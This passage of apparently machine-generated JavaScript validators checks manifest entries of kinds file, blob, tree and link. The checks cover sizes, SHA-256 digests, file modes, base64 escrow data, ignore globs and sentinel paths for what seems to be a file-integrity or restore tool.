{vErrors.push(err67);}errors++;}validate24.errors = vErrors;return errors === 0;}validate24.evaluated = {"props":{"id":true,"kind":true,"path":true,"tier":true,"needs":true,"restore":true,"timeout_s":true,"env":true,"secret_env":true,"smoke":true,"smoke_timeout_s":true,"note":true,"expect":true},"dynamicProps":false,"dynamicItems":false};const manifest_validator_pattern11 = new RegExp("^[0-9a-f]{64}$", "u");const manifest_validator_pattern12 = new RegExp("^[0-7]{4}$", "u");const manifest_validator_pattern13 = new RegExp("^[A-Za-z0-9+/]*={0,2}$", "u");function validate23(data, {instancePath="", parentData, parentDataProperty, rootData=data, dynamicAnchors={}}={}){let vErrors = null;let errors = 0;const evaluated0 = validate23.evaluated;if(evaluated0.dynamicProps){evaluated0.props = undefined;}if(evaluated0.dynamicItems){evaluated0.items = undefined;}if(!(validate24(data, {instancePath,parentData,parentDataProperty,rootData,dynamicAnchors}))){vErrors = vErrors === null ? validate24.errors : vErrors.concat(validate24.errors);errors = vErrors.length;}if(data && typeof data == "object" && !Array.isArray(data)){if(data.kind !== undefined){if("file" !== data.kind){const err0 = {instancePath:instancePath+"/kind",schemaPath:"#/properties/kind/const",keyword:"const",params:{allowedValue: "file"},message:"must be equal to constant"};if(vErrors === null){vErrors = [err0];}else {vErrors.push(err0);}errors++;}}if(data.expect !== undefined){let data1 = data.expect;if(data1 && typeof data1 == "object" && !Array.isArray(data1)){if(data1.size === undefined){const err1 = {instancePath:instancePath+"/expect",schemaPath:"#/properties/expect/required",keyword:"required",params:{missingProperty: "size"},message:"must have required property '"+"size"+"'"};if(vErrors === null){vErrors = [err1];}else {vErrors.push(err1);}errors++;}if(data1.sha256 === undefined){const err2 = {instancePath:instancePath+"/expect",schemaPath:"#/properties/expect/required",keyword:"required",params:{missingProperty: "sha256"},message:"must have required property '"+"sha256"+"'"};if(vErrors === null){vErrors = [err2];}else {vErrors.push(err2);}errors++;}if(data1.mode === undefined){const err3 = {instancePath:instancePath+"/expect",schemaPath:"#/properties/expect/required",keyword:"required",params:{missingProperty: "mode"},message:"must have required property '"+"mode"+"'"};if(vErrors === null){vErrors = [err3];}else {vErrors.push(err3);}errors++;}for(const key0 in data1){if(!(((key0 === "size") || (key0 === "sha256")) || (key0 === "mode"))){const err4 = {instancePath:instancePath+"/expect",schemaPath:"#/properties/expect/additionalProperties",keyword:"additionalProperties",params:{additionalProperty: key0},message:"must NOT have additional properties"};if(vErrors === null){vErrors = [err4];}else {vErrors.push(err4);}errors++;}}if(data1.size !== undefined){let data2 = data1.size;if(!(((typeof data2 == "number") && (!(data2 % 1) && !isNaN(data2))) && (isFinite(data2)))){const err5 = {instancePath:instancePath+"/expect/size",schemaPath:"#/$defs/size/type",keyword:"type",params:{type: "integer"},message:"must be integer"};if(vErrors === null){vErrors = [err5];}else {vErrors.push(err5);}errors++;}if((typeof data2 == "number") && (isFinite(data2))){if(data2 > 9007199254740991 || isNaN(data2)){const err6 = {instancePath:instancePath+"/expect/size",schemaPath:"#/$defs/size/maximum",keyword:"maximum",params:{comparison: "<=", limit: 9007199254740991},message:"must be <= 9007199254740991"};if(vErrors === null){vErrors = [err6];}else {vErrors.push(err6);}errors++;}if(data2 < 0 || isNaN(data2)){const err7 = {instancePath:instancePath+"/expect/size",schemaPath:"#/$defs/size/minimum",keyword:"minimum",params:{comparison: ">=", limit: 0},message:"must be >= 0"};if(vErrors === null){vErrors = [err7];}else {vErrors.push(err7);}errors++;}}}if(data1.sha256 !== undefined){let data3 = data1.sha256;if(typeof data3 === "string"){if(!manifest_validator_pattern11.test(data3)){const err8 = {instancePath:instancePath+"/expect/sha256",schemaPath:"#/$defs/sha256/pattern",keyword:"pattern",params:{pattern: "^[0-9a-f]{64}$"},message:"must match pattern \""+"^[0-9a-f]{64}$"+"\""};if(vErrors === null){vErrors = [err8];}else {vErrors.push(err8);}errors++;}}else {const err9 = {instancePath:instancePath+"/expect/sha256",schemaPath:"#/$defs/sha256/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err9];}else {vErrors.push(err9);}errors++;}}if(data1.mode !== undefined){let data4 = data1.mode;if(typeof data4 === "string"){if(!manifest_validator_pattern12.test(data4)){const err10 = {instancePath:instancePath+"/expect/mode",schemaPath:"#/$defs/mode/pattern",keyword:"pattern",params:{pattern: "^[0-7]{4}$"},message:"must match pattern \""+"^[0-7]{4}$"+"\""};if(vErrors === null){vErrors = [err10];}else {vErrors.push(err10);}errors++;}}else {const err11 = {instancePath:instancePath+"/expect/mode",schemaPath:"#/$defs/mode/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err11];}else {vErrors.push(err11);}errors++;}}}else {const err12 = {instancePath:instancePath+"/expect",schemaPath:"#/properties/expect/type",keyword:"type",params:{type: "object"},message:"must be object"};if(vErrors === null){vErrors = [err12];}else {vErrors.push(err12);}errors++;}}if(data.escrow !== undefined){let data5 = data.escrow;if(data5 && typeof data5 == "object" && !Array.isArray(data5)){if(data5.encoding === undefined){const err13 = {instancePath:instancePath+"/escrow",schemaPath:"#/properties/escrow/required",keyword:"required",params:{missingProperty: "encoding"},message:"must have required property '"+"encoding"+"'"};if(vErrors === null){vErrors = [err13];}else {vErrors.push(err13);}errors++;}if(data5.data === undefined){const err14 = {instancePath:instancePath+"/escrow",schemaPath:"#/properties/escrow/required",keyword:"required",params:{missingProperty: "data"},message:"must have required property '"+"data"+"'"};if(vErrors === null){vErrors = [err14];}else {vErrors.push(err14);}errors++;}for(const key1 in data5){if(!((key1 === "encoding") || (key1 === "data"))){const err15 = {instancePath:instancePath+"/escrow",schemaPath:"#/properties/escrow/additionalProperties",keyword:"additionalProperties",params:{additionalProperty: key1},message:"must NOT have additional properties"};if(vErrors === null){vErrors = [err15];}else {vErrors.push(err15);}errors++;}}if(data5.encoding !== undefined){if("deflate-base64" !== data5.encoding){const err16 = {instancePath:instancePath+"/escrow/encoding",schemaPath:"#/properties/escrow/properties/encoding/const",keyword:"const",params:{allowedValue: "deflate-base64"},message:"must be equal to constant"};if(vErrors === null){vErrors = [err16];}else {vErrors.push(err16);}errors++;}}if(data5.data !== undefined){let data7 = data5.data;if(typeof data7 === "string"){if(manifest_validator_func1(data7) > 1048576){const err17 = {instancePath:instancePath+"/escrow/data",schemaPath:"#/properties/escrow/properties/data/maxLength",keyword:"maxLength",params:{limit: 1048576},message:"must NOT have more than 1048576 characters"};if(vErrors === null){vErrors = [err17];}else {vErrors.push(err17);}errors++;}if(!manifest_validator_pattern13.test(data7)){const err18 = {instancePath:instancePath+"/escrow/data",schemaPath:"#/properties/escrow/properties/data/pattern",keyword:"pattern",params:{pattern: "^[A-Za-z0-9+/]*={0,2}$"},message:"must match pattern \""+"^[A-Za-z0-9+/]*={0,2}$"+"\""};if(vErrors === null){vErrors = [err18];}else {vErrors.push(err18);}errors++;}}else {const err19 = {instancePath:instancePath+"/escrow/data",schemaPath:"#/properties/escrow/properties/data/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err19];}else {vErrors.push(err19);}errors++;}}}else {const err20 = {instancePath:instancePath+"/escrow",schemaPath:"#/properties/escrow/type",keyword:"type",params:{type: "object"},message:"must be object"};if(vErrors === null){vErrors = [err20];}else {vErrors.push(err20);}errors++;}}for(const key2 in data){if((((((((((((((key2 !== "kind") && (key2 !== "expect")) && (key2 !== "escrow")) && (key2 !== "id")) && (key2 !== "path")) && (key2 !== "tier")) && (key2 !== "needs")) && (key2 !== "restore")) && (key2 !== "timeout_s")) && (key2 !== "env")) && (key2 !== "secret_env")) && (key2 !== "smoke")) && (key2 !== "smoke_timeout_s")) && (key2 !== "note")){const err21 = {instancePath,schemaPath:"#/unevaluatedProperties",keyword:"unevaluatedProperties",params:{unevaluatedProperty: key2},message:"must NOT have unevaluated properties"};if(vErrors === null){vErrors = [err21];}else {vErrors.push(err21);}errors++;}}}validate23.errors = vErrors;return errors === 0;}validate23.evaluated = {"props":true,"dynamicProps":false,"dynamicItems":false};const manifest_validator_schema43 = {"$ref":"#/$defs/common","unevaluatedProperties":false,"properties":{"kind":{"const":"blob"},"expect":{"type":"object","additionalProperties":false,"required":["size","headtail"],"properties":{"size":{"$ref":"#/$defs/size"},"headtail":{"$ref":"#/$defs/sha256"},"sha256":{"$ref":"#/$defs/sha256"},"mode":{"$ref":"#/$defs/mode"}}}}};function validate27(data, {instancePath="", parentData, parentDataProperty, rootData=data, dynamicAnchors={}}={}){let vErrors = null;let errors = 0;const evaluated0 = validate27.evaluated;if(evaluated0.dynamicProps){evaluated0.props = undefined;}if(evaluated0.dynamicItems){evaluated0.items = undefined;}if(!(validate24(data, {instancePath,parentData,parentDataProperty,rootData,dynamicAnchors}))){vErrors = vErrors === null ? validate24.errors : vErrors.concat(validate24.errors);errors = vErrors.length;}if(data && typeof data == "object" && !Array.isArray(data)){if(data.kind !== undefined){if("blob" !== data.kind){const err0 = {instancePath:instancePath+"/kind",schemaPath:"#/properties/kind/const",keyword:"const",params:{allowedValue: "blob"},message:"must be equal to constant"};if(vErrors === null){vErrors = [err0];}else {vErrors.push(err0);}errors++;}}if(data.expect !== undefined){let data1 = data.expect;if(data1 && typeof data1 == "object" && !Array.isArray(data1)){if(data1.size === undefined){const err1 = {instancePath:instancePath+"/expect",schemaPath:"#/properties/expect/required",keyword:"required",params:{missingProperty: "size"},message:"must have required property '"+"size"+"'"};if(vErrors === null){vErrors = [err1];}else {vErrors.push(err1);}errors++;}if(data1.headtail === undefined){const err2 = {instancePath:instancePath+"/expect",schemaPath:"#/properties/expect/required",keyword:"required",params:{missingProperty: "headtail"},message:"must have required property '"+"headtail"+"'"};if(vErrors === null){vErrors = [err2];}else {vErrors.push(err2);}errors++;}for(const key0 in data1){if(!((((key0 === "size") || (key0 === "headtail")) || (key0 === "sha256")) || (key0 === "mode"))){const err3 = {instancePath:instancePath+"/expect",schemaPath:"#/properties/expect/additionalProperties",keyword:"additionalProperties",params:{additionalProperty: key0},message:"must NOT have additional properties"};if(vErrors === null){vErrors = [err3];}else {vErrors.push(err3);}errors++;}}if(data1.size !== undefined){let data2 = data1.size;if(!(((typeof data2 == "number") && (!(data2 % 1) && !isNaN(data2))) && (isFinite(data2)))){const err4 = {instancePath:instancePath+"/expect/size",schemaPath:"#/$defs/size/type",keyword:"type",params:{type: "integer"},message:"must be integer"};if(vErrors === null){vErrors = [err4];}else {vErrors.push(err4);}errors++;}if((typeof data2 == "number") && (isFinite(data2))){if(data2 > 9007199254740991 || isNaN(data2)){const err5 = {instancePath:instancePath+"/expect/size",schemaPath:"#/$defs/size/maximum",keyword:"maximum",params:{comparison: "<=", limit: 9007199254740991},message:"must be <= 9007199254740991"};if(vErrors === null){vErrors = [err5];}else {vErrors.push(err5);}errors++;}if(data2 < 0 || isNaN(data2)){const err6 = {instancePath:instancePath+"/expect/size",schemaPath:"#/$defs/size/minimum",keyword:"minimum",params:{comparison: ">=", limit: 0},message:"must be >= 0"};if(vErrors === null){vErrors = [err6];}else {vErrors.push(err6);}errors++;}}}if(data1.headtail !== undefined){let data3 = data1.headtail;if(typeof data3 === "string"){if(!manifest_validator_pattern11.test(data3)){const err7 = {instancePath:instancePath+"/expect/headtail",schemaPath:"#/$defs/sha256/pattern",keyword:"pattern",params:{pattern: "^[0-9a-f]{64}$"},message:"must match pattern \""+"^[0-9a-f]{64}$"+"\""};if(vErrors === null){vErrors = [err7];}else {vErrors.push(err7);}errors++;}}else {const err8 = {instancePath:instancePath+"/expect/headtail",schemaPath:"#/$defs/sha256/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err8];}else {vErrors.push(err8);}errors++;}}if(data1.sha256 !== undefined){let data4 = data1.sha256;if(typeof data4 === "string"){if(!manifest_validator_pattern11.test(data4)){const err9 = {instancePath:instancePath+"/expect/sha256",schemaPath:"#/$defs/sha256/pattern",keyword:"pattern",params:{pattern: "^[0-9a-f]{64}$"},message:"must match pattern \""+"^[0-9a-f]{64}$"+"\""};if(vErrors === null){vErrors = [err9];}else {vErrors.push(err9);}errors++;}}else {const err10 = {instancePath:instancePath+"/expect/sha256",schemaPath:"#/$defs/sha256/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err10];}else {vErrors.push(err10);}errors++;}}if(data1.mode !== undefined){let data5 = data1.mode;if(typeof data5 === "string"){if(!manifest_validator_pattern12.test(data5)){const err11 = {instancePath:instancePath+"/expect/mode",schemaPath:"#/$defs/mode/pattern",keyword:"pattern",params:{pattern: "^[0-7]{4}$"},message:"must match pattern \""+"^[0-7]{4}$"+"\""};if(vErrors === null){vErrors = [err11];}else {vErrors.push(err11);}errors++;}}else {const err12 = {instancePath:instancePath+"/expect/mode",schemaPath:"#/$defs/mode/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err12];}else {vErrors.push(err12);}errors++;}}}else {const err13 = {instancePath:instancePath+"/expect",schemaPath:"#/properties/expect/type",keyword:"type",params:{type: "object"},message:"must be object"};if(vErrors === null){vErrors = [err13];}else {vErrors.push(err13);}errors++;}}for(const key1 in data){if(((((((((((((key1 !== "kind") && (key1 !== "expect")) && (key1 !== "id")) && (key1 !== "path")) && (key1 !== "tier")) && (key1 !== "needs")) && (key1 !== "restore")) && (key1 !== "timeout_s")) && (key1 !== "env")) && (key1 !== "secret_env")) && (key1 !== "smoke")) && (key1 !== "smoke_timeout_s")) && (key1 !== "note")){const err14 = {instancePath,schemaPath:"#/unevaluatedProperties",keyword:"unevaluatedProperties",params:{unevaluatedProperty: key1},message:"must NOT have unevaluated properties"};if(vErrors === null){vErrors = [err14];}else {vErrors.push(err14);}errors++;}}}validate27.errors = vErrors;return errors === 0;}validate27.evaluated = {"props":true,"dynamicProps":false,"dynamicItems":false};const schema48 = {"$ref":"#/$defs/common","unevaluatedProperties":false,"required":["ignore"],"properties":{"kind":{"const":"tree"},"ignore":{"description":"Directory or file names, or globs relative to the tree, left out of the walk.","type":"array","maxItems":256,"uniqueItems":true,"items":{"type":"string","minLength":1,"maxLength":1024}},"expect":{"type":"object","additionalProperties":false,"required":["sentinels","min_files"],"properties":{"sentinels":{"type":"array","maxItems":1024,"uniqueItems":true,"items":{"$ref":"#/$defs/relpath"}},"min_files":{"$ref":"#/$defs/size"},"max_files":{"$ref":"#/$defs/size"},"files":{"$ref":"#/$defs/size"},"meta_digest":{"$ref":"#/$defs/sha256"},"content_digest":{"$ref":"#/$defs/sha256"},"special_digest":{"description":"Digest of the path and kind of every special file in walk order (\"char 1:3\", \"block 8:0\", \"fifo\", \"socket\"), so a device swapped for another of the same mode is damage. Present only when the tree holds a special file; a tree recorded without it is checked as before.","$ref":"#/$defs/sha256"},"index":{"type":"object","additionalProperties":false,"required":["sha256","entries"],"properties":{"sha256":{"$ref":"#/$defs/sha256"},"entries":{"$ref":"#/$defs/size"}}}},"description":"A tree imported from format 2 may lack max_files, files and digests until it is captured again; it is then checked by sentinels and min_files only."}}};function validate30(data, {instancePath="", parentData, parentDataProperty, rootData=data, dynamicAnchors={}}={}){let vErrors = null;let errors = 0;const evaluated0 = validate30.evaluated;if(evaluated0.dynamicProps){evaluated0.props = undefined;}if(evaluated0.dynamicItems){evaluated0.items = undefined;}if(!(validate24(data, {instancePath,parentData,parentDataProperty,rootData,dynamicAnchors}))){vErrors = vErrors === null ? validate24.errors : vErrors.concat(validate24.errors);errors = vErrors.length;}if(data && typeof data == "object" && !Array.isArray(data)){if(data.ignore === undefined){const err0 = {instancePath,schemaPath:"#/required",keyword:"required",params:{missingProperty: "ignore"},message:"must have required property '"+"ignore"+"'"};if(vErrors === null){vErrors = [err0];}else {vErrors.push(err0);}errors++;}if(data.kind !== undefined){if("tree" !== data.kind){const err1 = {instancePath:instancePath+"/kind",schemaPath:"#/properties/kind/const",keyword:"const",params:{allowedValue: "tree"},message:"must be equal to constant"};if(vErrors === null){vErrors = [err1];}else {vErrors.push(err1);}errors++;}}if(data.ignore !== undefined){let data1 = data.ignore;if(Array.isArray(data1)){if(data1.length > 256){const err2 = {instancePath:instancePath+"/ignore",schemaPath:"#/properties/ignore/maxItems",keyword:"maxItems",params:{limit: 256},message:"must NOT have more than 256 items"};if(vErrors === null){vErrors = [err2];}else {vErrors.push(err2);}errors++;}const len0 = data1.length;for(let i0=0; i0<len0; i0++){let data2 = data1[i0];if(typeof data2 === "string"){if(manifest_validator_func1(data2) > 1024){const err3 = {instancePath:instancePath+"/ignore/" + i0,schemaPath:"#/properties/ignore/items/maxLength",keyword:"maxLength",params:{limit: 1024},message:"must NOT have more than 1024 characters"};if(vErrors === null){vErrors = [err3];}else {vErrors.push(err3);}errors++;}if(manifest_validator_func1(data2) < 1){const err4 = {instancePath:instancePath+"/ignore/" + i0,schemaPath:"#/properties/ignore/items/minLength",keyword:"minLength",params:{limit: 1},message:"must NOT have fewer than 1 characters"};if(vErrors === null){vErrors = [err4];}else {vErrors.push(err4);}errors++;}}else {const err5 = {instancePath:instancePath+"/ignore/" + i0,schemaPath:"#/properties/ignore/items/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err5];}else {vErrors.push(err5);}errors++;}}let i1 = data1.length;let j0;if(i1 > 1){const indices0 = {};for(;i1--;){let item0 = data1[i1];if(typeof item0 !== "string"){continue;}if(typeof indices0[item0] == "number"){j0 = indices0[item0];const err6 = {instancePath:instancePath+"/ignore",schemaPath:"#/properties/ignore/uniqueItems",keyword:"uniqueItems",params:{i: i1, j: j0},message:"must NOT have duplicate items (items ## "+j0+" and "+i1+" are identical)"};if(vErrors === null){vErrors = [err6];}else {vErrors.push(err6);}errors++;break;}indices0[item0] = i1;}}}else {const err7 = {instancePath:instancePath+"/ignore",schemaPath:"#/properties/ignore/type",keyword:"type",params:{type: "array"},message:"must be array"};if(vErrors === null){vErrors = [err7];}else {vErrors.push(err7);}errors++;}}if(data.expect !== undefined){let data3 = data.expect;if(data3 && typeof data3 == "object" && !Array.isArray(data3)){if(data3.sentinels === undefined){const err8 = {instancePath:instancePath+"/expect",schemaPath:"#/properties/expect/required",keyword:"required",params:{missingProperty: "sentinels"},message:"must have required property '"+"sentinels"+"'"};if(vErrors === null){vErrors = [err8];}else {vErrors.push(err8);}errors++;}if(data3.min_files === undefined){const err9 = {instancePath:instancePath+"/expect",schemaPath:"#/properties/expect/required",keyword:"required",params:{missingProperty: "min_files"},message:"must have required property '"+"min_files"+"'"};if(vErrors === null){vErrors = [err9];}else {vErrors.push(err9);}errors++;}for(const key0 in data3){if(!((((((((key0 === "sentinels") || (key0 === "min_files")) || (key0 === "max_files")) || (key0 === "files")) || (key0 === "meta_digest")) || (key0 === "content_digest")) || (key0 === "special_digest")) || (key0 === "index"))){const err10 = {instancePath:instancePath+"/expect",schemaPath:"#/properties/expect/additionalProperties",keyword:"additionalProperties",params:{additionalProperty: key0},message:"must NOT have additional properties"};if(vErrors === null){vErrors = [err10];}else {vErrors.push(err10);}errors++;}}if(data3.sentinels !== undefined){let data4 = data3.sentinels;if(Array.isArray(data4)){if(data4.length > 1024){const err11 = {instancePath:instancePath+"/expect/sentinels",schemaPath:"#/properties/expect/properties/sentinels/maxItems",keyword:"maxItems",params:{limit: 1024},message:"must NOT have more than 1024 items"};if(vErrors === null){vErrors = [err11];}else {vErrors.push(err11);}errors++;}const len1 = data4.length;for(let i2=0; i2<len1; i2++){let data5 = data4[i2];if(typeof data5 === "string"){if(manifest_validator_func1(data5) > 4096){const err12 = {instancePath:instancePath+"/expect/sentinels/" + i2,schemaPath:"#/$defs/relpath/maxLength",keyword:"maxLength",params:{limit: 4096},message:"must NOT have more than 4096 characters"};if(vErrors === null){vErrors = [err12];}else {vErrors.push(err12);}errors++;}if(manifest_validator_func1(data5) < 1){const err13 = {instancePath:instancePath+"/expect/sentinels/" + i2,schemaPath:"#/$defs/relpath/minLength",keyword:"minLength",params:{limit: 1},message:"must NOT have fewer than 1 characters"};if(vErrors === null){vErrors = [err13];}else {vErrors.push(err13);}errors++;}}else {const err14 = {instancePath:instancePath+"/expect/sentinels/" + i2,schemaPath:"#/$defs/relpath/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err14];}else {vErrors.push(err14);}errors++;}}let i3 = data4.length;let j1;if(i3 > 1){outer0:for(;i3--;){for(j1 = i3; j1--;){if(manifest_validator_func0(data4[i3], data4[j1])){const err15 = {instancePath:instancePath+"/expect/sentinels",schemaPath:"#/properties/expect/properties/sentinels/uniqueItems",keyword:"uniqueItems",params:{i: i3, j: j1},message:"must NOT have duplicate items (items ## "+j1+" and "+i3+" are identical)"};if(vErrors === null){vErrors = [err15];}else {vErrors.push(err15);}errors++;break outer0;}}}}}else {const err16 = {instancePath:instancePath+"/expect/sentinels",schemaPath:"#/properties/expect/properties/sentinels/type",keyword:"type",params:{type: "array"},message:"must be array"};if(vErrors === null){vErrors = [err16];}else {vErrors.push(err16);}errors++;}}if(data3.min_files !== undefined){let data6 = data3.min_files;if(!(((typeof data6 == "number") && (!(data6 % 1) && !isNaN(data6))) && (isFinite(data6)))){const err17 = {instancePath:instancePath+"/expect/min_files",schemaPath:"#/$defs/size/type",keyword:"type",params:{type: "integer"},message:"must be integer"};if(vErrors === null){vErrors = [err17];}else {vErrors.push(err17);}errors++;}if((typeof data6 == "number") && (isFinite(data6))){if(data6 > 9007199254740991 || isNaN(data6)){const err18 = {instancePath:instancePath+"/expect/min_files",schemaPath:"#/$defs/size/maximum",keyword:"maximum",params:{comparison: "<=", limit: 9007199254740991},message:"must be <= 9007199254740991"};if(vErrors === null){vErrors = [err18];}else {vErrors.push(err18);}errors++;}if(data6 < 0 || isNaN(data6)){const err19 = {instancePath:instancePath+"/expect/min_files",schemaPath:"#/$defs/size/minimum",keyword:"minimum",params:{comparison: ">=", limit: 0},message:"must be >= 0"};if(vErrors === null){vErrors = [err19];}else {vErrors.push(err19);}errors++;}}}if(data3.max_files !== undefined){let data7 = data3.max_files;if(!(((typeof data7 == "number") && (!(data7 % 1) && !isNaN(data7))) && (isFinite(data7)))){const err20 = {instancePath:instancePath+"/expect/max_files",schemaPath:"#/$defs/size/type",keyword:"type",params:{type: "integer"},message:"must be integer"};if(vErrors === null){vErrors = [err20];}else {vErrors.push(err20);}errors++;}if((typeof data7 == "number") && (isFinite(data7))){if(data7 > 9007199254740991 || isNaN(data7)){const err21 = {instancePath:instancePath+"/expect/max_files",schemaPath:"#/$defs/size/maximum",keyword:"maximum",params:{comparison: "<=", limit: 9007199254740991},message:"must be <= 9007199254740991"};if(vErrors === null){vErrors = [err21];}else {vErrors.push(err21);}errors++;}if(data7 < 0 || isNaN(data7)){const err22 = {instancePath:instancePath+"/expect/max_files",schemaPath:"#/$defs/size/minimum",keyword:"minimum",params:{comparison: ">=", limit: 0},message:"must be >= 0"};if(vErrors === null){vErrors = [err22];}else {vErrors.push(err22);}errors++;}}}if(data3.files !== undefined){let data8 = data3.files;if(!(((typeof data8 == "number") && (!(data8 % 1) && !isNaN(data8))) && (isFinite(data8)))){const err23 = {instancePath:instancePath+"/expect/files",schemaPath:"#/$defs/size/type",keyword:"type",params:{type: "integer"},message:"must be integer"};if(vErrors === null){vErrors = [err23];}else {vErrors.push(err23);}errors++;}if((typeof data8 == "number") && (isFinite(data8))){if(data8 > 9007199254740991 || isNaN(data8)){const err24 = {instancePath:instancePath+"/expect/files",schemaPath:"#/$defs/size/maximum",keyword:"maximum",params:{comparison: "<=", limit: 9007199254740991},message:"must be <= 9007199254740991"};if(vErrors === null){vErrors = [err24];}else {vErrors.push(err24);}errors++;}if(data8 < 0 || isNaN(data8)){const err25 = {instancePath:instancePath+"/expect/files",schemaPath:"#/$defs/size/minimum",keyword:"minimum",params:{comparison: ">=", limit: 0},message:"must be >= 0"};if(vErrors === null){vErrors = [err25];}else {vErrors.push(err25);}errors++;}}}if(data3.meta_digest !== undefined){let data9 = data3.meta_digest;if(typeof data9 === "string"){if(!manifest_validator_pattern11.test(data9)){const err26 = {instancePath:instancePath+"/expect/meta_digest",schemaPath:"#/$defs/sha256/pattern",keyword:"pattern",params:{pattern: "^[0-9a-f]{64}$"},message:"must match pattern \""+"^[0-9a-f]{64}$"+"\""};if(vErrors === null){vErrors = [err26];}else {vErrors.push(err26);}errors++;}}else {const err27 = {instancePath:instancePath+"/expect/meta_digest",schemaPath:"#/$defs/sha256/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err27];}else {vErrors.push(err27);}errors++;}}if(data3.content_digest !== undefined){let data10 = data3.content_digest;if(typeof data10 === "string"){if(!manifest_validator_pattern11.test(data10)){const err28 = {instancePath:instancePath+"/expect/content_digest",schemaPath:"#/$defs/sha256/pattern",keyword:"pattern",params:{pattern: "^[0-9a-f]{64}$"},message:"must match pattern \""+"^[0-9a-f]{64}$"+"\""};if(vErrors === null){vErrors = [err28];}else {vErrors.push(err28);}errors++;}}else {const err29 = {instancePath:instancePath+"/expect/content_digest",schemaPath:"#/$defs/sha256/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err29];}else {vErrors.push(err29);}errors++;}}if(data3.special_digest !== undefined){let data11 = data3.special_digest;if(typeof data11 === "string"){if(!manifest_validator_pattern11.test(data11)){const err30 = {instancePath:instancePath+"/expect/special_digest",schemaPath:"#/$defs/sha256/pattern",keyword:"pattern",params:{pattern: "^[0-9a-f]{64}$"},message:"must match pattern \""+"^[0-9a-f]{64}$"+"\""};if(vErrors === null){vErrors = [err30];}else {vErrors.push(err30);}errors++;}}else {const err31 = {instancePath:instancePath+"/expect/special_digest",schemaPath:"#/$defs/sha256/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err31];}else {vErrors.push(err31);}errors++;}}if(data3.index !== undefined){let data12 = data3.index;if(data12 && typeof data12 == "object" && !Array.isArray(data12)){if(data12.sha256 === undefined){const err32 = {instancePath:instancePath+"/expect/index",schemaPath:"#/properties/expect/properties/index/required",keyword:"required",params:{missingProperty: "sha256"},message:"must have required property '"+"sha256"+"'"};if(vErrors === null){vErrors = [err32];}else {vErrors.push(err32);}errors++;}if(data12.entries === undefined){const err33 = {instancePath:instancePath+"/expect/index",schemaPath:"#/properties/expect/properties/index/required",keyword:"required",params:{missingProperty: "entries"},message:"must have required property '"+"entries"+"'"};if(vErrors === null){vErrors = [err33];}else {vErrors.push(err33);}errors++;}for(const key1 in data12){if(!((key1 === "sha256") || (key1 === "entries"))){const err34 = {instancePath:instancePath+"/expect/index",schemaPath:"#/properties/expect/properties/index/additionalProperties",keyword:"additionalProperties",params:{additionalProperty: key1},message:"must NOT have additional properties"};if(vErrors === null){vErrors = [err34];}else {vErrors.push(err34);}errors++;}}if(data12.sha256 !== undefined){let data13 = data12.sha256;if(typeof data13 === "string"){if(!manifest_validator_pattern11.test(data13)){const err35 = {instancePath:instancePath+"/expect/index/sha256",schemaPath:"#/$defs/sha256/pattern",keyword:"pattern",params:{pattern: "^[0-9a-f]{64}$"},message:"must match pattern \""+"^[0-9a-f]{64}$"+"\""};if(vErrors === null){vErrors = [err35];}else {vErrors.push(err35);}errors++;}}else {const err36 = {instancePath:instancePath+"/expect/index/sha256",schemaPath:"#/$defs/sha256/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err36];}else {vErrors.push(err36);}errors++;}}if(data12.entries !== undefined){let data14 = data12.entries;if(!(((typeof data14 == "number") && (!(data14 % 1) && !isNaN(data14))) && (isFinite(data14)))){const err37 = {instancePath:instancePath+"/expect/index/entries",schemaPath:"#/$defs/size/type",keyword:"type",params:{type: "integer"},message:"must be integer"};if(vErrors === null){vErrors = [err37];}else {vErrors.push(err37);}errors++;}if((typeof data14 == "number") && (isFinite(data14))){if(data14 > 9007199254740991 || isNaN(data14)){const err38 = {instancePath:instancePath+"/expect/index/entries",schemaPath:"#/$defs/size/maximum",keyword:"maximum",params:{comparison: "<=", limit: 9007199254740991},message:"must be <= 9007199254740991"};if(vErrors === null){vErrors = [err38];}else {vErrors.push(err38);}errors++;}if(data14 < 0 || isNaN(data14)){const err39 = {instancePath:instancePath+"/expect/index/entries",schemaPath:"#/$defs/size/minimum",keyword:"minimum",params:{comparison: ">=", limit: 0},message:"must be >= 0"};if(vErrors === null){vErrors = [err39];}else {vErrors.push(err39);}errors++;}}}}else {const err40 = {instancePath:instancePath+"/expect/index",schemaPath:"#/properties/expect/properties/index/type",keyword:"type",params:{type: "object"},message:"must be object"};if(vErrors === null){vErrors = [err40];}else {vErrors.push(err40);}errors++;}}}else {const err41 = {instancePath:instancePath+"/expect",schemaPath:"#/properties/expect/type",keyword:"type",params:{type: "object"},message:"must be object"};if(vErrors === null){vErrors = [err41];}else {vErrors.push(err41);}errors++;}}for(const key2 in data){if((((((((((((((key2 !== "kind") && (key2 !== "ignore")) && (key2 !== "expect")) && (key2 !== "id")) && (key2 !== "path")) && (key2 !== "tier")) && (key2 !== "needs")) && (key2 !== "restore")) && (key2 !== "timeout_s")) && (key2 !== "env")) && (key2 !== "secret_env")) && (key2 !== "smoke")) && (key2 !== "smoke_timeout_s")) && (key2 !== "note")){const err42 = {instancePath,schemaPath:"#/unevaluatedProperties",keyword:"unevaluatedProperties",params:{unevaluatedProperty: key2},message:"must NOT have unevaluated properties"};if(vErrors === null){vErrors = [err42];}else {vErrors.push(err42);}errors++;}}}validate30.errors = vErrors;return errors === 0;}validate30.evaluated = {"props":true,"dynamicProps":false,"dynamicItems":false};const schema58 = {"$ref":"#/$defs/common","unevaluatedProperties":false,"properties":{"kind":{"const":"link"},"expect":{"type":"object","additionalProperties":false,"required":["target"],"properties":{"target":{"type":"string","minLength":1,"maxLength":4096}}}}};function validate33(data, {instancePath="", parentData, 